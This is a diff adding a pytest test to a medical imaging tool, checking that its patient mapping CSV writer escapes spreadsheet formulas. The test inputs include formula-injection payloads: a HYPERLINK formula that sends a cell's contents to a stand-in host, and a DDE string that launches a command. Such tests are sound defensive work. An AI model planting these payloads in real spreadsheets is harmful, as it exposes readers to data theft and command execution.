@@ -20,6 +20,7 @@ from mtinet.cohort import Cohort
 from mtinet.config import resolve, resolve_simulation
 from mtinet.errors import UnusableError, UserError
 from mtinet.volume import read_nifti
+from mtinet.workflows.imports.mapping import MappingRow, read_mapping, write_mapping
 from mtinet.workflows.ingest import IngestOptions, ingest
 from mtinet.workflows.prepare import prepare_cohort
 from mtinet.workflows.qc import qc
@@ -346,6 +347,29 @@ def test_folders_and_tables_of_others_are_not_touched(imported, scanned, tmp_pat
         bring_in(scanned / "dicom", edited)
     with pytest.raises(UserError, match="inside the cohort"):
         bring_in(scanned / "dicom", tmp_path / "new", mapping=tmp_path / "new" / "who.csv")
+
+
+@pytest.mark.parametrize(
+    ("name", "cell"),
+    [
+        ('=HYPERLINK("http://x/?"&A1,"x")', '\'=HYPERLINK("http://x/?"&A1,"x")'),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("'=1+1", "''=1+1"),
+        # what is no formula is found as it is by whoever reads the table with another program
+        ("-17", "-17"),
+        ("-", "-"),
+        ("'t Hooft^Jan", "'t Hooft^Jan"),
+        ("O'Brien^Pat", "O'Brien^Pat"),
+    ],
+)
+def test_no_cell_of_the_mapping_is_computed_and_each_is_read_back(name, cell, tmp_path):
+    row = MappingRow("study-1", "patient-1", name, name, "1.2", "20240131", "A-1")
+    write_mapping(tmp_path / "who.csv", [row])
+    with (tmp_path / "who.csv").open(newline="", encoding="utf-8") as lines:
+        (stored,) = csv.DictReader(lines)
+    assert (stored["patient_name"], stored["accession"]) == (cell, "A-1")
+    assert read_mapping(tmp_path / "who.csv", "") == {"study-1": row}
 
 
 def test_the_key_is_not_made_in_what_is_given_away(tmp_path):
